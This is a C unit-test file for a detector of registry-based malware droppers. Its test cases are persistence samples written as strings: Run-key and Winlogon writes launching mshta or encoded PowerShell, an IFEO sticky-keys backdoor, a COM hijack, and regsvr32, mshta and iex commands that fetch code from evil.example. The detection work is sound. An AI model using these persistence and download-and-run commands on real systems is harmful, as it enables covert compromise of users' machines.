/*
 * test_heur_registry - unit tests for heur_registry.c (registry droppers)
 *
 * Table-driven: each case is a text, the symbols it must and must not produce, and the
 * range its REG_* score must fall in (weights below mirror the REG_ lines of
 * rules/scoring.conf; test_weights_match_conf fails when the two drift apart, and skips
 * while scoring.conf has no REG_ lines). Every failing case is printed with what it got.
 * Inputs are copied into exact-size buffers so ASan catches a read past the end.
 */
#include <setjmp.h> /* setjmp.h, stdarg.h and stddef.h must precede cmocka.h */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "lib/buf.h"
#include "heur/registry.h"
#include "model/hit.h"
#include "testhits.h"
#include "lib/xalloc.h"
#include "policy/chain.h"

#define TAG 5.0

static const struct {
    const char *sym;
    double w;
} weights[] = {
    {"REG_AUTOSTART_KEY", 1},  {"REG_HANDLER_KEY", 1},     {"REG_IFEO_KEY", 1},
    {"REG_COM_KEY", 0.5},      {"REG_PAYLOAD_KEY", 1.5},   {"REG_WRITE", 0.5},
    {"REG_LAUNCHER_VALUE", 2}, {"REG_ENCODED_VALUE", 2},   {"REG_RUN_KEY_WRITE", 3},
    {"REG_IFEO_DEBUGGER", 4},  {"REG_COM_HIJACK", 4},      {"REG_PAYLOAD_STORE", 4},
    {"REG_DROPPER", 4},        {"REG_DROPPER_ENCODED", 4},
};
#define NW (sizeof(weights) / sizeof(weights[0]))

/* a 256-byte base64 literal (UTF-16LE PowerShell, as -EncodedCommand carries it) */
#define B64                                                                                        \
    "JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0AZQBtAG8AcgB5AFMAdAByAGUAYQBtACgALABbAEMAbwBu" \
    "AHYAZQByAHQAXQA6ADoARgByAG8AbQBCAGEAcwBlADYANABTAHQAcgBpAG4AZwAoACIASAA0AHMASQBBAEEAQQBBAEEA" \
    "QQBBAEEAQQBLADEAVwBiAFcALwBpAE8AQgBUACsAWAB3AFQAKwBIAHcAPQA9ACIAKQApAA=="

/* ------------------------------------------------------------------ helpers */

/* run - heur_registry over an exact-size copy of text; the caller frees the hits */
static HITS *run(const char *text, size_t n)
{
    HITS *h = hits_new();
    HEUR_CTX c = {.hits = h, .location = "1/t"};
    char *copy = n ? xmemdup(text, n) : NULL;
    heur_registry(&c, copy, n);
    free(copy);
    return h;
}

/* weight_of - the table weight of sym (0 when unknown) */
static double weight_of(const char *sym)
{
    for (size_t i = 0; i < NW; i++)
        if (strcmp(weights[i].sym, sym) == 0)
            return weights[i].w;
    return 0;
}

/* score - the message score of the hits under rules/scoring.conf with its chains
 * (policy/chain.h: without a chain one attachment's findings weigh at most 4); the plain
 * table sum when the rules are not found */
static double score(HITS *h)
{
    BUF *err = buf_new(64);
    SCORES *s = scores_load("rules/scoring.conf", err);
    buf_free(err);
    double sum = 0;
    if (s == NULL) {
        for (size_t i = 0; i < h->n; i++)
            sum += weight_of(h->v[i].symbol);
        return sum;
    }
    SCORE_CTX ctx = {.alone_max = 4, .mention_max = 1};
    sum = score_message(s, h, &ctx);
    scores_free(s);
    return sum;
}

/* dump - the hits as text for a failure message */
static void dump(BUF *b, const HITS *h)
{
    for (size_t i = 0; i < h->n; i++)
        buf_printf(b, "\n    %s: %s", h->v[i].symbol, h->v[i].detail);
}

/* ------------------------------------------------------------------ cases */

typedef struct CASE {
    const char *name;
    const char *text;
    const char *want;    /* symbols that must be reported */
    const char *notwant; /* symbols that must not */
    double min, max;     /* REG_ score range */
} CASE;

static const CASE cases[] = {
    /* ---- negatives: mentions, reads and ordinary writes stay below tag */
    {"admin script documents keys, reads them",
     "# Audit-Autostart.ps1 - list autostart entries for the helpdesk\n"
     "# Keys checked:\n"
     "#   HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\n"
     "#   HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\n"
     "#   HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon (Shell, Userinit)\n"
     "#   HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\n"
     "# Malware likes to leave mshta javascript: or powershell -enc command lines here.\n"
     "$keys = @('HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',\n"
     "          'HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce')\n"
     "foreach ($k in $keys) { Get-ItemProperty -Path $k | Format-List }\n",
     "REG_AUTOSTART_KEY", "REG_WRITE REG_LAUNCHER_VALUE REG_RUN_KEY_WRITE REG_DROPPER", 0,
     TAG - 0.01},
    {"prose email mentions the Run key",
     "Hi team,\r\n\r\nthe scanner flagged an entry under "
     "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run on two laptops. Please\r\n"
     "check whether anything odd is listed there before Friday. Thanks, Maria\r\n",
     "REG_AUTOSTART_KEY", "REG_WRITE REG_RUN_KEY_WRITE REG_DROPPER", 0, TAG - 0.01},
    {".reg file sets the wallpaper",
     "Windows Registry Editor Version 5.00\r\n\r\n"
     "[HKEY_CURRENT_USER\\Control Panel\\Desktop]\r\n"
     "\"Wallpaper\"=\"C:\\\\Users\\\\Public\\\\Pictures\\\\corp-2024.jpg\"\r\n"
     "\"WallpaperStyle\"=\"10\"\r\n",
     "REG_WRITE", "REG_COM_HIJACK REG_RUN_KEY_WRITE REG_DROPPER REG_ENCODED_VALUE", 0, TAG - 0.01},
    {"installer writes its version",
     "@echo off\r\n"
     "reg add \"HKLM\\Software\\Vendor\\App\" /v Version /t REG_SZ /d 2.1.0 /f\r\n"
     "powershell -NoProfile -Command \"New-ItemProperty -Path HKLM:\\Software\\Vendor\\App "
     "-Name InstallDir -Value 'C:\\Program Files\\Vendor' -Force\"\r\n",
     "REG_WRITE", "REG_RUN_KEY_WRITE REG_DROPPER REG_LAUNCHER_VALUE", 0, TAG - 0.01},
    {"legitimate Run registration",
     "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v OneDrive /t REG_SZ "
     "/d \"\\\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\\\" /background\" /f\r\n",
     "REG_RUN_KEY_WRITE REG_WRITE", "REG_DROPPER REG_LAUNCHER_VALUE", 0, TAG - 0.01},
    {"Run registration of a PowerShell script (-ExecutionPolicy is no -enc)",
     "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' "
     "-Name Inventory -Value 'powershell.exe -ExecutionPolicy Bypass -File "
     "C:\\IT\\inventory.ps1'\n",
     "REG_RUN_KEY_WRITE", "REG_DROPPER REG_LAUNCHER_VALUE", 0, TAG - 0.01},
    {"COM server registered under Program Files",
     "Windows Registry Editor Version 5.00\r\n\r\n"
     "[HKEY_CLASSES_ROOT\\CLSID\\{4A7C2E51-0B1D-4E8F-9C3A-2D5E6F708192}\\InprocServer32]\r\n"
     "@=\"C:\\\\Program Files\\\\Vendor\\\\shellext.dll\"\r\n"
     "\"ThreadingModel\"=\"Apartment\"\r\n",
     "REG_COM_KEY REG_WRITE", "REG_COM_HIJACK REG_DROPPER", 0, TAG - 0.01},
    {"autologon admin script writes Winlogon, no Shell/Userinit",
     "reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\" "
     "/v AutoAdminLogon /t REG_SZ /d 1 /f\r\n"
     "var sh = new ActiveXObject(\"WScript.Shell\");\r\n",
     "REG_WRITE", "REG_AUTOSTART_KEY REG_RUN_KEY_WRITE", 0, TAG - 0.01},
    {"HTA launcher without registry is not ours",
     "<script>new ActiveXObject('WScript.Shell').Run('mshta javascript:alert(1)');</script>\n"
     "var img = 'data:image/png;base64," B64 "';\n",
     "", "REG_WRITE REG_LAUNCHER_VALUE REG_ENCODED_VALUE", 0, 0},
    {"UI code calling setValue", "slider.setValue(42); form.setValue('name', user);\n", "",
     "REG_WRITE", 0, 0},

    /* ---- positives */
    {"Kovter-style JS: RegWrite Run <- mshta javascript: + base64",
     "var sh = new ActiveXObject(\"WScript.Shell\");\n"
     "sh.RegWrite(\"HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\upd\", "
     "\"mshta javascript:eval(atob('" B64 "'))\", \"REG_SZ\");\n",
     "REG_WRITE REG_AUTOSTART_KEY REG_RUN_KEY_WRITE REG_LAUNCHER_VALUE REG_ENCODED_VALUE "
     "REG_DROPPER REG_DROPPER_ENCODED",
     "", 15, 1000},
    {"Poweliks-style VBS: rundll32 javascript: RunHTMLApplication",
     "Set sh = CreateObject(\"WScript.Shell\")\r\n"
     "sh.RegWrite \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\\", "
     "\"rundll32.exe javascript:\"\"\\..\\mshtml,RunHTMLApplication \"\";document.write("
     "\"\"\\74script language=jscript.encode>\"\"+(new ActiveXObject(\"\"WScript.Shell\"\"))"
     ".RegRead(\"\"HKCU\\\\software\\\\microsoft\\\\windows\\\\currentversion\\\\run\\\\\"\"))"
     "\"\r\n",
     "REG_DROPPER REG_LAUNCHER_VALUE REG_RUN_KEY_WRITE", "", 12, 1000},
    {"Gootloader-style PowerShell: base64 chunks under Phone\\<user>",
     "$u = $env:USERNAME\n"
     "$k = \"HKCU:\\Software\\Microsoft\\Phone\\$u\"\n"
     "New-Item -Path $k -Force | Out-Null\n"
     "Set-ItemProperty -Path $k -Name '0' -Value '" B64 "'\n"
     "Set-ItemProperty -Path $k -Name '1' -Value '" B64 "'\n",
     "REG_PAYLOAD_KEY REG_PAYLOAD_STORE REG_ENCODED_VALUE REG_WRITE", "REG_DROPPER", 4, 1000},
    {"reg add RunOnce <- powershell -enc",
     "cmd.exe /c reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce /v upd "
     "/t REG_SZ /d \"powershell.exe -nop -w hidden -enc " B64 "\" /f\r\n",
     "REG_DROPPER REG_DROPPER_ENCODED REG_RUN_KEY_WRITE", "", 15, 1000},
    {".reg file: Run value launching mshta",
     "Windows Registry Editor Version 5.00\r\n\r\n"
     "[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"
     "\"updater\"=\"mshta javascript:close(new ActiveXObject('WScript.Shell').Run("
     "'calc'))\"\r\n",
     "REG_DROPPER REG_WRITE", "", 12, 1000},
    {"WMI StdRegProv SetStringValue",
     "Set r = GetObject(\"winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\default:"
     "StdRegProv\")\r\n"
     "r.SetStringValue HKEY_CURRENT_USER, \"Software\\Microsoft\\Windows\\CurrentVersion\\Run\", "
     "\"upd\", \"mshta vbscript:Execute(\"\"CreateObject(\"\"\"\"WScript.Shell\"\"\"\")\"\")\"\r\n",
     "REG_DROPPER", "", 12, 1000},
    {"custom extension handler (Kovter)",
     "reg add \"HKCU\\Software\\Classes\\.abcd1234\" /ve /d \"abcd1234file\" /f\r\n"
     "reg add \"HKCU\\Software\\Classes\\abcd1234file\\shell\\open\\command\" /ve /d "
     "\"mshta javascript:eval(new ActiveXObject('WScript.Shell').RegRead('HKCU\\\\x'))\" /f\r\n",
     "REG_HANDLER_KEY REG_DROPPER", "REG_RUN_KEY_WRITE", 12, 1000},
    {"IFEO Debugger (sticky keys)",
     "reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution "
     "Options\\sethc.exe\" /v Debugger /t REG_SZ /d \"C:\\Windows\\System32\\cmd.exe\" /f\r\n",
     "REG_IFEO_KEY REG_IFEO_DEBUGGER REG_WRITE", "REG_DROPPER", TAG, 1000},
    {"UserInitMprLogonScript <- wscript //E:jscript",
     "New-ItemProperty -Path 'HKCU:\\Environment' -Name 'UserInitMprLogonScript' "
     "-Value 'wscript.exe //E:jscript C:\\Users\\Public\\log.txt' -Force\n",
     "REG_AUTOSTART_KEY REG_DROPPER", "", 12, 1000},
    {"Winlogon Userinit <- powershell -encodedcommand",
     "reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\" /v Userinit "
     "/t REG_SZ /d \"C:\\Windows\\system32\\userinit.exe,powershell -EncodedCommand " B64
     "\" /f\r\n",
     "REG_AUTOSTART_KEY REG_DROPPER REG_DROPPER_ENCODED", "", 15, 1000},
    {"Winlogon Shell in a .reg file",
     "[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon]\r\n"
     "\"Shell\"=\"explorer.exe, cmd /c start /min %APPDATA%\\\\svc.exe\"\r\n",
     "REG_AUTOSTART_KEY REG_DROPPER", "", 12, 1000},
    {"SilentProcessExit MonitorProcess",
     "reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit"
     "\\notepad.exe\" /v MonitorProcess /d \"C:\\Users\\Public\\m.exe\" /f\r\n",
     "REG_IFEO_KEY REG_IFEO_DEBUGGER", "REG_DROPPER", TAG, 1000},
    {"Active Setup StubPath <- mshta vbscript:",
     "[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Active Setup\\Installed Components\\"
     "{A1B2C3D4-0000-1111-2222-333344445555}]\r\n"
     "\"StubPath\"=\"mshta vbscript:CreateObject(\\\"WScript.Shell\\\").Run(\\\"calc\\\")"
     "(window.close)\"\r\n",
     "REG_AUTOSTART_KEY REG_DROPPER", "", 12, 1000},
    {"COM hijack: InprocServer32 -> %APPDATA% dll",
     "Windows Registry Editor Version 5.00\r\n\r\n"
     "[HKEY_CURRENT_USER\\Software\\Classes\\CLSID\\{b5f8350b-0548-48b1-a6ee-88bd00b4a5e7}"
     "\\InprocServer32]\r\n"
     "@=\"%APPDATA%\\\\Microsoft\\\\upd.dll\"\r\n"
     "\"ThreadingModel\"=\"Both\"\r\n",
     "REG_COM_KEY REG_COM_HIJACK REG_WRITE", "REG_DROPPER", TAG, 1000},
    {"regsvr32 scrobj in Run (Squiblydoo)",
     "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d "
     "\"regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll\" /f\r\n",
     "REG_DROPPER", "", 12, 1000},
    {"PowerShell provider with forward slashes <- mshta http",
     "New-ItemProperty -Path 'HKCU:/Software/Microsoft/Windows/CurrentVersion/Run' -Name x "
     "-Value 'mshta http://evil.example/a.hta'\n",
     "REG_DROPPER", "", 12, 1000},
    {"Registry:: provider <- %COMSPEC% and powershell iex",
     "Set-ItemProperty -Path "
     "'Registry::HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' "
     "-Name y -Value '%COMSPEC% /c powershell -c iex(irm evil.example/a)'\n",
     "REG_DROPPER", "", 12, 1000},
    {"C: RegSetValueEx <- rundll32 javascript:",
     "RegOpenKeyExA(HKEY_CURRENT_USER, "
     "\"Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\", 0, KEY_SET_VALUE, &h);\n"
     "RegSetValueExA(h, \"upd\", 0, REG_SZ, (BYTE *)\"rundll32.exe javascript:\\\"\\\\..\\\\"
     "mshtml,RunHTMLApplication \\\";alert(1)\", 60);\n",
     "REG_DROPPER", "", 12, 1000},
};

/* case_text - the text of the case whose name starts with prefix */
static const char *case_text(const char *prefix)
{
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
        if (strncmp(cases[i].name, prefix, strlen(prefix)) == 0)
            return cases[i].text;
    fail_msg("no case %s", prefix);
    return "";
}

/* test_cases - run the table; print every failing case */
static void test_cases(void **state)
{
    (void)state;
    int fails = 0;
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        const CASE *k = &cases[i];
        HITS *h = run(k->text, strlen(k->text));
        BUF *why = buf_new(64);
        bool ok = hits_has_all(h, k->want, true, why); /* both run: all misses are listed */
        ok = hits_has_all(h, k->notwant, false, why) && ok;
        double sc = score(h);
        if (sc < k->min || sc > k->max) {
            buf_printf(why, " score %.1f not in [%.1f, %.1f]", sc, k->min, k->max);
            ok = false;
        }
        if (!ok) {
            dump(why, h);
            print_message("FAIL %s:%s\n", k->name, why->data);
            fails++;
        }
        buf_free(why);
        hits_free(h);
    }
    assert_int_equal(fails, 0);
}

/* test_detail - the dropper detail names the key and the launcher */
static void test_detail(void **state)
{
    (void)state;
    const char *t = case_text("Kovter");
    HITS *h = run(t, strlen(t));
    const char *got = NULL;
    for (size_t i = 0; i < h->n; i++)
        if (strcmp(h->v[i].symbol, "REG_DROPPER") == 0)
            got = h->v[i].detail;
    assert_non_null(got);
    /* hits_add's sanitizer doubles each backslash */
    assert_string_equal(got, "Run key "
                             "'HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run"
                             "\\\\upd' <- mshta javascript:eval(atob('JABzAD0ATgBlAHcALQBPAGIAagB"
                             "lAGMAdAAgAEkATwAu...");
    assert_string_equal(h->v[0].location, "1/t");
    for (size_t i = 0; i < h->n; i++)
        assert_true(strlen(h->v[i].detail) <= HIT_DETAIL_MAX + 8);
    hits_free(h);
}

/* test_utf16 - a .reg file as regedit exports it (UTF-16LE with BOM) */
static void test_utf16(void **state)
{
    (void)state;
    const char *t = case_text(".reg file: Run value");
    size_t n = strlen(t);
    char *w = xmalloc(2 * n + 2);
    w[0] = (char)0xff;
    w[1] = (char)0xfe;
    for (size_t i = 0; i < n; i++) {
        w[2 + 2 * i] = t[i];
        w[3 + 2 * i] = 0;
    }
    HITS *h = run(w, 2 * n + 2);
    assert_true(hits_has(h, "REG_DROPPER"));
    hits_free(h);
    free(w);
}

/* test_degenerate - empty, NULL and NUL-laden input, NULL location */
static void test_degenerate(void **state)
{
    (void)state;
    HITS *h = hits_new();
    HEUR_CTX c = {.hits = h, .location = NULL};
    heur_registry(&c, NULL, 0);
    heur_registry(&c, "", 0);
    heur_registry(NULL, "x", 1);
    assert_int_equal(h->n, 0);
    static const char nul[] = "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
                              "\0 /d \"mshta javascript:x\"";
    heur_registry(&c, nul, sizeof(nul) - 1);
    assert_true(hits_has(h, "REG_DROPPER"));
    assert_string_equal(h->v[0].location, "-");
    hits_free(h);
}

/* check_bounded - at most one hit per symbol, all REG_ */
static void check_bounded(const HITS *h)
{
    assert_true(h->n <= NW);
    for (size_t i = 0; i < h->n; i++) {
        assert_true(strncmp(h->v[i].symbol, "REG_", 4) == 0);
        for (size_t j = i + 1; j < h->n; j++)
            assert_true(strcmp(h->v[i].symbol, h->v[j].symbol) != 0);
    }
}

/* repeat - n bytes of unit repeated */
static char *repeat(const char *unit, size_t n)
{
    size_t u = strlen(unit);
    char *b = xmalloc(n);
    for (size_t i = 0; i < n; i++)
        b[i] = unit[i % u];
    return b;
}

/* test_hostile - megabytes of keys, writes and launchers without structure */
static void test_hostile(void **state)
{
    (void)state;
    static const char *const units[] = {
        "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run RegWrite mshta ",
        "\\\\\\\\\\\\\\\\\\",
        "\\shell\\\\shell\\\\command",
        "powershell -e -e -e -e mshta javascript:reg add HKCU\\x\\currentversion\\run ",
        "Ab1+",
        "reg   \t",
        "[hkey_\\inprocserver32%appdata%image file execution options debugger ",
    };
    size_t sizes[] = {5u << 20, 2u << 20, 2u << 20, 2u << 20, 1u << 20, 1u << 20, 1u << 20};
    for (size_t k = 0; k < sizeof(units) / sizeof(units[0]); k++) {
        char *b = repeat(units[k], sizes[k]);
        HITS *h = run(b, sizes[k]);
        check_bounded(h);
        if (k == 0)
            assert_true(hits_has(h, "REG_RUN_KEY_WRITE") && !hits_has(h, "REG_DROPPER"));
        if (k == 3)
            assert_true(hits_has(h, "REG_DROPPER"));
        hits_free(h);
        free(b);
    }
}

/* test_random - a pseudo-random soup of every kind of token stays bounded */
static void test_random(void **state)
{
    (void)state;
    static const char *const words[] = {
        "HKCU\\",    "\\\\Run",  "\\currentversion\\run",
        "RegWrite",  "mshta ",   "javascript:",
        "\"",        "\n",       "powershell ",
        "-enc ",     B64,        "\\shell\\open",
        "\\command", "Winlogon", "\\winlogon\\",
        "Shell",     "/",        " ",
        "rundll32 ", "%temp%",   "\\inprocserver32",
        "reg add ",  "[HKEY_",   "\\microsoft\\phone",
    };
    BUF *b = buf_new(1 << 20);
    uint32_t x = 2463534242u;
    while (b->len < (1u << 20)) {
        x ^= x << 13, x ^= x >> 17, x ^= x << 5;
        buf_puts(b, words[x % (sizeof(words) / sizeof(words[0]))]);
    }
    HITS *h = run(b->data, b->len);
    check_bounded(h);
    hits_free(h);
    buf_free(b);
}

/* test_weights_match_conf - the REG_ lines of rules/scoring.conf agree with `weights` */
static void test_weights_match_conf(void **state)
{
    (void)state;
    FILE *f = fopen("rules/scoring.conf", "r");
    if (f == NULL)
        skip();
    char line[512], sym[128];
    double w;
    int seen = 0, bad = 0;
    while (fgets(line, sizeof(line), f))
        if (strncmp(line, "REG_", 4) == 0 && sscanf(line, "%127s %lf", sym, &w) == 2) {
            seen++;
            if (weight_of(sym) != w) {
                print_message("scoring.conf %s %.2f, test table %.2f\n", sym, w, weight_of(sym));
                bad++;
            }
        }
    fclose(f);
    if (seen == 0)
        skip();
    assert_int_equal(seen, (int)NW);
    assert_int_equal(bad, 0);
}

/* main - run the registry tests */
int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_cases),
        cmocka_unit_test(test_detail),
        cmocka_unit_test(test_utf16),
        cmocka_unit_test(test_degenerate),
        cmocka_unit_test(test_hostile),
        cmocka_unit_test(test_random),
        cmocka_unit_test(test_weights_match_conf),
    };
    return cmocka_run_group_tests_name("heur_registry", tests, NULL, NULL);
}
